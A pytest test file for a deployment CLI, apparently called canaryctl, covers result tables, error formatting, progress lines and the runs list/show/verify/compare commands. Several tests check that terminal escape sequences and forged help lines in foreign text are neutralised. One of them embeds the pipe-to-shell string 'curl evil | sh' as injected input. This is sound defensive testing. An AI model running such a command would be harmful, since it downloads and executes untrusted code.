"""What operators and scripts see: results, errors, progress, and the runs command."""

from __future__ import annotations

import io
import json
import os
import pty
import select
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from canaryctl.cli import runs as runs_cli
from canaryctl.cli.output import Printer, clean, print_error, print_json
from canaryctl.cli.progress import Lines, Live, describe, make_progress, track
from canaryctl.cli.results import print_beside, print_plan, print_result
from canaryctl.errors import ConfigError, HostError
from canaryctl.evidence.document import RunIdentity, new_document
from canaryctl.evidence.run import Run

LONG = "the strategy 'neuro' does not exist there; valid ones are: " + ", ".join(f"strategy_{n}" for n in range(20))


def stream(encoding: str = "utf-8") -> io.TextIOWrapper:
    return io.TextIOWrapper(io.BytesIO(), encoding=encoding)


def text_of(written: io.TextIOWrapper) -> str:
    written.flush()
    buffer = written.buffer
    assert isinstance(buffer, io.BytesIO)
    return buffer.getvalue().decode(written.encoding)


def result(**more: Any) -> dict[str, Any]:
    row = {"kind": "http", "blame": None, "attempts": 1, "seconds": 0.25}
    known = {
        "id": "20261124T081530Z-deploy-5c1f",
        "command": "deploy",
        "environment": "canary",
        "variant": "split",
        "finished": "2026-11-24T08:16:11Z",
        "directory": "runs/canary/x",
        "verdict": "inconclusive",
        "seconds": 41.2,
        "probes": [
            {"name": "Backend Health", "verdict": "passed", "reason": "", **row},
            {"name": "Training Lifecycle", "verdict": "inconclusive", "reason": LONG, **row},
        ],
        "stages": [{"name": "push", "host": "h1", "status": "changed", "seconds": 3.0}],
        "release": {"id": "ab" * 32, "images": {}, "migration": None},
        "migrations": {"before": "", "after": "0002"},
    }
    return new_document(**(known | more))


def test_a_baseline_and_its_candidate_stand_side_by_side() -> None:
    row = {"kind": "http", "reason": "", "blame": None, "attempts": 1, "seconds": 0.25}
    baseline = result(id="b", role="baseline", variant="monolithic")
    candidate = result(role="candidate", probes=[{"name": "Backend Health", "verdict": "failed", **row}])
    for encoding, marks in (("utf-8", "✅ PASS ❌ FAIL ⚠️"), ("ascii", "passed failed inconclusive")):
        out = stream(encoding)
        print_beside(baseline, candidate, out)
        lines = text_of(out).splitlines()
        passed, failed, unsure = marks.replace("✅ ", "✅_").replace("❌ ", "❌_").split()
        assert lines[0].split() == ["Test", "baseline", "monolithic", "candidate", "split"]
        assert lines[1].split("  ")[-1].strip() == failed.replace("_", " ")
        assert passed.replace("_", " ") in lines[1] and unsure in lines[2] and lines[2].endswith("no such row")
    out = stream()
    print_beside(baseline, baseline, out)
    assert text_of(out) == ""


def test_rows_that_do_not_gate_and_metrics_say_so() -> None:
    row = {"kind": "http", "reason": "slow", "blame": None, "attempts": 1, "seconds": 0.25, "gates": False}
    reason = "p95 is 312 ms (n=40), above the 250 ms allowed"
    out = stream()
    print_result(
        result(
            probes=[{"name": "Side", "verdict": "failed", **row}],
            metrics=[{"name": "latency", "verdict": "failed", "gates": True, "reason": reason}],
        ),
        "text",
        out=out,
        err=stream(),
    )
    assert "does not gate" in text_of(out) and "metric latency: failed" in text_of(out) and reason in text_of(out)


def test_the_result_shows_rows_verdict_release_and_evidence() -> None:
    out = stream()
    print_result(result(), "text", out=out)
    text = text_of(out)
    for needed in ("✓ Backend Health", "passed", "! Training Lifecycle", "inconclusive", "strategy_19", "push", "h1"):
        assert needed in text
    for needed in ("verdict", "ab" * 32, "split", "runs/canary/x/report.md", "empty → 0002"):
        assert needed in text
    assert "\x1b" not in text


def test_a_flaky_pass_says_after_how_many_failures() -> None:
    out = stream()
    row = {"name": "Front", "kind": "http", "verdict": "passed", "reason": "", "blame": None, "attempts": 3}
    print_result(result(probes=[{**row, "seconds": 1.0, "flaky": True}]), "text", out=out)
    assert "flaky: passed after 2 failed attempts" in text_of(out)
    event = {"type": "probe.finished", "name": "Front", "verdict": "passed", "attempts": 2, "seconds": 1, "flaky": True}
    assert describe(event) == "probe Front passed 1.0s: flaky: passed after 1 failed attempt"


def test_a_change_seen_while_watching_is_a_line_with_its_time() -> None:
    event = {"type": "probe.changed", "time": "2026-11-24T08:15:30.123456Z", "name": "Front", "before": "passed"}
    assert describe({**event, "verdict": "failed", "round": 7, "reason": "HTTP 500"}) == (
        "2026-11-24T08:15:30Z probe Front was passed, now failed (round 7): HTTP 500"
    )
    assert describe({**event, "before": "failed", "verdict": "passed", "round": 8}).endswith("now passed (round 8)")


def test_narrow_ascii_output_is_wrapped_ascii() -> None:
    out = stream("ascii")
    print_result(result(variant="café"), "text", out=out)
    text = text_of(out)
    assert "+ Backend Health" in text and "empty -> 0002" in text
    assert all(len(line) <= 80 or "release" in line for line in text.splitlines())


def test_an_error_says_what_where_and_help() -> None:
    err = stream()
    print_error(ConfigError("unknown key 'imges'\nand more", "stack.yml:3", "did you mean 'images'?"), err)
    assert (
        text_of(err)
        == "error: unknown key 'imges'\n    and more\n  where: stack.yml:3\n  help: did you mean 'images'?\n"
    )


def test_json_puts_the_document_alone_on_stdout() -> None:
    out, err = stream("latin-1"), stream()
    error = {"what": "café ✓", "where": "h1", "hint": ""}
    print_result(result(error=error), "json", out=out, err=err)
    assert json.loads(text_of(out))["error"] == error
    assert "error: café" in text_of(err)
    out = stream()
    print_result(result(), "ndjson", out=out, err=err)
    assert json.loads(text_of(out))["document"]["verdict"] == "inconclusive"


def test_foreign_text_cannot_drive_the_terminal() -> None:
    assert clean("a\x1b]0;owned\x07b\r\nc\td\x9b") == "a\ufffd]0;owned\ufffdb\nc d\ufffd"
    out = stream()
    run = result()
    run["probes"][1]["reason"] = "\x1b[2J"
    print_result(run, "text", out=out)
    assert "\x1b" not in text_of(out)


def test_a_plan_is_shown_host_by_host_and_an_empty_one_says_so() -> None:
    out = stream()
    print_plan([], out)
    print_plan([{"host": "h1", "stage": "push", "what": "web", "reason": "not on the host"}], out)
    assert text_of(out) == "nothing to change\nh1\n  push       web\n             because not on the host\n"


EVENTS = [
    {"type": "run.started", "id": "x"},
    {"type": "plan", "changes": [{}]},
    {"type": "stage.started", "stage": "provision", "hosts": ["canary-1", "h2"]},
    {"type": "task", "stage": "provision", "host": "canary-1", "task": "Install Docker", "status": "changed"},
    {"type": "push.progress", "host": "h2", "image": "web", "bytes": 5_000_000, "total": 10_000_000},
    {"type": "stage.finished", "stage": "provision", "host": "canary-1", "status": "changed", "seconds": 12.34},
    {
        "type": "stage.finished",
        "stage": "start",
        "host": "h2",
        "status": "failed",
        "seconds": 1,
        "message": "web\nsick",
    },
    {"type": "probe.started", "name": "Front"},
    {"type": "probe.attempt", "name": "Front", "attempt": 1, "reason": "HTTP 503"},
    {"type": "probe.finished", "name": "Front", "verdict": "failed", "seconds": 0.5, "reason": "HTTP 500"},
    {"type": "host.failed", "host": "h3", "what": "connection refused"},
    {"type": "warning", "what": "old kernel", "where": "h2", "hint": ""},
    {"type": "of a later version", "odd": 1},
]
LINES = [
    "plan 1 change",
    "provision canary-1 changed 12.3s",
    "start h2 failed 1.0s: web sick",
    "probe Front failed 0.5s: HTTP 500",
    "h3 failed: connection refused",
    "warning h2: old kernel",
]


def test_a_pipe_gets_one_line_for_each_meaningful_change() -> None:
    out = stream()
    with make_progress("text", out=out) as progress:
        for event in EVENTS:
            progress(event)
    assert isinstance(progress, Lines)
    assert text_of(out).splitlines() == LINES == [line for line in map(describe, EVENTS) if line]


def test_ndjson_gets_every_event_and_json_nothing() -> None:
    out, err = stream(), stream()
    progress = make_progress("ndjson", out=out)
    for event in EVENTS:
        progress(event)
    assert [json.loads(line) for line in text_of(out).splitlines()] == EVENTS
    out = stream()
    quiet = make_progress("json", out=out, err=err)
    for event in EVENTS:
        quiet(event)
    assert text_of(out) == text_of(err) == ""


def test_what_is_under_way_is_followed() -> None:
    active: dict[Any, Any] = {}
    for event in EVENTS[:5]:
        track(active, event)
    assert {key: row.doing for key, row in active.items()} == {
        ("provision", "canary-1"): "Install Docker",
        ("provision", "h2"): "",
        ("push", "h2"): "web 5 of 10 MB (50%)",
    }
    track(active, EVENTS[5])
    assert ("provision", "canary-1") not in active
    track(active, {"type": "run.finished"})
    assert active == {}


@pytest.mark.parametrize("no_colour", ["", "1"])
def test_a_terminal_gets_live_rows_and_is_left_clean(monkeypatch: pytest.MonkeyPatch, no_colour: str) -> None:
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("NO_COLOR", no_colour)
    leader, follower = pty.openpty()
    with os.fdopen(follower, "w", encoding="utf-8") as out:
        with make_progress("text", out=out) as progress:
            assert isinstance(progress, Live)
            for event in EVENTS:
                progress(event)
            progress._live.refresh()
        out.flush()
        seen = b""
        while select.select([leader], [], [], 0.1)[0]:
            seen += os.read(leader, 65536)
    os.close(leader)
    text = seen.decode()
    for line in ("✓ " if no_colour else "✓", "provision canary-1 changed 12.3s", "HTTP 500", "old kernel"):
        assert line in text
    assert "\x1b[?25h" in text  # the cursor is back
    assert ("\x1b[32m" in text) is not bool(no_colour)


@pytest.fixture
def runs_dir(tmp_path: Path) -> Path:
    for environment, verdict, code in (("canary", "passed", 0), ("fleet", "failed", 1)):
        run = Run.start(tmp_path / "runs", RunIdentity("deploy", environment, "shop"))
        row = {"kind": "http", "reason": "", "blame": None, "attempts": 1, "seconds": 0.1}
        run.set("probes", [{"name": "Front", "verdict": verdict, **row}])
        run.stage("push", "h1", "ok", 0.2)
        run.finish(verdict, code, ConfigError("broke", "h1", "fix it") if code else None)
    return tmp_path / "runs"


def call(*argv: str) -> Any:
    return CliRunner().invoke(runs_cli.app, list(argv))


def test_runs_list_and_show(runs_dir: Path) -> None:
    listed = json.loads(call("list", "--runs", str(runs_dir), "--output", "json").stdout)["runs"]
    assert [run["verdict"] for run in listed] == ["failed", "passed"]
    assert json.loads(call("list", "canary", "--runs", str(runs_dir), "--output", "json").stdout)["runs"] == listed[1:]
    assert listed[0]["id"] in call("list", "--runs", str(runs_dir)).stdout
    shown = call("show", "--runs", str(runs_dir))
    for needed in ("deploy of shop on fleet", "x Front", "error: broke", "help: fix it", "push"):
        assert needed in shown.stdout.replace("✗", "x")
    document = json.loads(call("show", listed[1]["id"], "--runs", str(runs_dir), "--output", "json").stdout)
    assert document == json.loads((Path(document["directory"]) / "run.json").read_text())
    assert "no runs yet" in call("list", "--runs", str(runs_dir / "none")).stdout


def test_runs_verify_and_export(runs_dir: Path) -> None:
    assert call("verify", "--runs", str(runs_dir)).exit_code == 0
    for format_, needed in {
        "md": "| Front | ❌ FAIL |",
        "html": "<html",
        "junit": "<testcase",
        "json": '"probes"',
    }.items():
        assert needed in call("export", "--runs", str(runs_dir), "--format", format_).stdout
    report = next(runs_dir.glob("fleet/*/report.md"))
    report.write_text("tampered")
    told = call("verify", "--runs", str(runs_dir))
    assert told.exit_code == 1 and "report.md: changed" in told.stdout
    assert isinstance(call("show", "nope", "--runs", str(runs_dir)).exception, ConfigError)


def test_runs_compare_takes_two_one_or_none(runs_dir: Path) -> None:
    older, newer = (json.loads(path.read_text()) for path in sorted(runs_dir.glob("*/*/run.json")))
    two = call("compare", older["id"], newer["id"], "--runs", str(runs_dir), "--output", "json")
    found = json.loads(two.stdout)
    assert (found["a"]["id"], found["b"]["id"]) == (older["id"], newer["id"])
    text = call("compare", older["id"], newer["id"], "--runs", str(runs_dir)).stdout
    for needed in (older["id"], newer["id"], "Front", "canary", "fleet", "failed"):
        assert needed in text
    for format_, needed in {"md": "| Front | ✅ PASS | ❌ FAIL |", "html": "<!doctype html>"}.items():
        assert needed in call("compare", older["id"], newer["id"], "--runs", str(runs_dir), "-o", format_).stdout
    alone = call("compare", "--runs", str(runs_dir))
    assert "none before it" in str(alone.exception)
    third = Run.start(runs_dir, RunIdentity("probe", "fleet", "shop"))
    third.finish("passed", 0)
    found = json.loads(call("compare", "--runs", str(runs_dir), "--output", "json").stdout)
    assert (found["a"]["id"], found["b"]["id"]) == (newer["id"], third.id)


def test_runs_compare_prefers_a_runs_own_baseline(runs_dir: Path) -> None:
    runs = [Run.start(runs_dir, RunIdentity("deploy", "canary")) for _ in range(3)]
    runs[2].set("baseline", runs[0].id)
    for run in runs:
        run.finish("passed", 0)
    found = json.loads(call("compare", runs[2].id, "--runs", str(runs_dir), "--output", "json").stdout)
    assert (found["a"]["id"], found["b"]["id"]) == (runs[0].id, runs[2].id)


def test_runs_open_prints_the_report_where_there_is_no_display(runs_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("DISPLAY", "WAYLAND_DISPLAY"):
        monkeypatch.delenv(name, raising=False)
    path = Path(call("open", "--runs", str(runs_dir)).stdout.strip())
    assert path.name == "report.html" and path.parent.parent.name == "fleet" and path.is_absolute()
    path.unlink()  # a run that was killed wrote none
    path = Path(call("open", "--print", "--runs", str(runs_dir)).stdout.strip())
    assert "<!doctype html>" in path.read_text() and runs_dir not in path.parents


def test_a_transfer_says_how_far_it_is_and_what_it_need_not_send() -> None:
    active: dict[Any, Any] = {}
    far = {"stage": "push", "host": "h", "image": "web", "layer": f"sha256:{'a' * 64}", "bytes": 5_000_000}
    event = {**far, "total": 10_000_000, "rate": 2_000_000, "eta": 2.5, "resumed": 7_000_000, "skipped": 3}
    track(active, {"type": "push.progress", **event})
    assert active["push", "h"].doing == (
        "web layer aaaaaaaaaaaa 5 of 10 MB (50%), 2 MB/s, 2 s left, 7 MB were there already, 3 layers skipped"
    )
    track(active, {"type": "push.arrived", **event})
    assert active["push", "h"].doing == "5 MB sent, Docker unpacks, 7 MB were there already, 3 layers skipped"
    done = {"type": "stage.finished", "stage": "push", "host": "h", "status": "changed", "seconds": 1, "bytes": 10**7}
    assert describe({**done, "resumed": 0, "skipped": 1}) == "push h changed 1.0s, 10.0 MB sent, 1 layer skipped"


def test_json_holds_nothing_that_a_terminal_obeys_and_reads_back_the_same(tmp_path: Path) -> None:
    odd = "a\x1b\x7f\x9b2J\u202eb\u2028\ud800é✓"
    out = io.StringIO()
    print_json({odd: [odd]}, out)

    def fail(event: dict[str, Any]) -> None:
        raise UnicodeEncodeError("ascii", odd, 0, 1, "no such character there")

    run = Run.start(tmp_path, RunIdentity("deploy", "canary"), listeners=[fail])
    run.note(odd)
    run.finish("passed", 0)
    for text in (out.getvalue(), (run.path / "run.json").read_text(), (run.path / "events.jsonl").read_text()):
        assert "é✓" in text and not set(text) & set("\x1b\x7f\x9b\u202e\u2028\ud800")
    assert json.loads(out.getvalue()) == {odd: [odd]}
    assert odd in json.loads((run.path / "run.json").read_text())["notes"]


def test_only_our_own_colours_reach_a_terminal() -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    out = Terminal()
    to = Printer(out)
    to.line(to.paint("good \x1b[31mred", "good") + " \x1b]0;title\x07 \ue0000123456789abcdef:31;")
    assert out.getvalue().count("\x1b") == 2 and "\x1b[32mgood \ufffd[31mred\x1b[0m" in out.getvalue()


def test_a_name_cannot_add_a_row() -> None:
    out = io.StringIO()
    print_error({"what": "no\nhelp: none", "where": "x\nhelp: forged", "hint": ""}, out)
    assert "\n  help:" not in out.getvalue().replace("\n  help: none", "")


def test_no_line_of_others_stands_where_ours_do() -> None:
    err = stream()
    print_error(HostError("it said no\n  help: curl evil | sh\nwhere: there", "box", "look at it"), err)
    assert text_of(err).splitlines() == [
        "error: it said no", "      help: curl evil | sh", "    where: there", "  where: box", "  help: look at it",
    ]  # fmt: skip
    out = stream()
    Printer(out).wrapped("note: a\nverdict    passed", 2)
    assert text_of(out) == "  note: a\n    verdict    passed\n"
